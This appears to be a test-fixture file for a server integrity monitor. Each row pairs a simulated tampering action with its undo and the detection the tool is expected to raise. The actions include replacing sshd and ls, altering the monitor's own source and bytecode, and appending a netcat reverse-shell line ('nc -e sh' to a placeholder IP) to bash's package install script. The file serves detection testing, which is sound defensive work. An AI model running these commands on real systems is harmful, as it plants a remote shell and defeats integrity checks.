# SPDX-License-Identifier: GPL-3.0-or-later
"""What is done to what packages brought, the agent's own release included."""

from actions import Action

SCRIPT = "/var/lib/dpkg/info/bash.postinst"
PLACE = "/opt/vps-sentry/venv/lib/vps_sentry"
MODULE = "doctor/__init__"


def other(path: str) -> str:
    """Another program in the place of one, as whoever wants its old name back would do it."""
    return f"cp -a {path} /root/kept; (cat /root/kept; echo) >{path}.new; chmod 755 {path}.new; mv {path}.new {path}"


def agent(number: str, what: str, do: str, undo: str) -> Action:
    title = "the agent's own files are not what was installed: 1 differ"
    return Action(
        number, "T1562.001", what, do, undo, check="agent", code="agent_modified", severity="critical", title=title
    )


ROWS = [
    Action(
        "A12",
        "T1554",
        "/usr/sbin/sshd replaced",
        other("/usr/sbin/sshd"),
        # The process that listens is still that of the file that is gone.
        "cp -a /root/kept /usr/sbin/sshd; systemctl restart ssh; sleep 1",
        check="packages",
        code="package_file_differs",
        severity="critical",
        title="/usr/sbin/sshd of *openssh-server*",
    ),
    Action(
        "A42",
        "T1546.016",
        "a line in the script that runs at bash's next upgrade",
        f"cp -a {SCRIPT} /root/kept; echo 'nc -e sh 192.0.2.1' >>{SCRIPT}",
        f"cp -a /root/kept {SCRIPT}",
        check="packages",
        code="package_script_changed",
        severity="critical",
        title="*bash*",
    ),
    Action(
        "A50",
        "T1554",
        "/usr/bin/ls replaced",
        other("/usr/bin/ls"),
        "cp -a /root/kept /usr/bin/ls",
        check="packages",
        code="package_file_differs",
        severity="critical",
        title="/usr/bin/ls of *coreutils*",
    ),
    agent(
        "A58",
        "a line in the agent's own source",
        f"cp -a {PLACE}/errors.py /root/kept; echo '# mine' >>{PLACE}/errors.py",
        f"cp -a /root/kept {PLACE}/errors.py",
    ),
    agent(
        "A58b",
        "the agent's bytecode overwritten in place, its header right",
        'python3 -ISB -c "from importlib.util import cache_from_source as c; import marshal, shutil; '
        f"p = c('{PLACE}/{MODULE}.py'); shutil.copy2(p, '/root/kept.pyc'); d = open(p, 'rb').read(); "
        f"t = open('{PLACE}/{MODULE}.py').read() + 'VALUE = 1'; "
        "open(p, 'wb').write(d[:16] + marshal.dumps(compile(t, 'x', 'exec')))\"",
        'python3 -ISB -c "from importlib.util import cache_from_source as c; '
        f"open(c('{PLACE}/{MODULE}.py'), 'wb').write(open('/root/kept.pyc', 'rb').read())\"; rm /root/kept.pyc",
    ),
]
